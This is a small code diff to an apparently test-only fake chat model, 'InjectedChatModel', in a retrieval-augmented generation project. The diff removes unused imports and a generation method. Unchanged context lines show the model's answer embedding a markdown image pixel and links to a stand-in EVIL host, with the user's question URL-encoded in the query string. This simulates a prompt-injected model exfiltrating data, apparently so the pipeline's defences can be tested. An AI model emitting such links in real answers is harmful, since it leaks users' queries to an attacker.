@@ -9,11 +9,7 @@ from __future__ import annotations
 
 import re
 import sys
-from typing import Any
 from urllib.parse import quote
-
-from langchain_core.messages import AIMessage
-from langchain_core.outputs import ChatGeneration, ChatResult
 
 from rag import register
 from rag.fakes import FakeCitingChatModel
@@ -31,9 +27,6 @@ class InjectedChatModel(FakeCitingChatModel):
         first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
         return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote(question)}) [1]. "
                 f"See [the details](http://{EVIL}/more) and http://{EVIL}/raw for more [1].")
-
-    def _generate(self, messages, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> ChatResult:
-        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=self._answer(messages)))])
 
 
 if __name__ == "__main__":
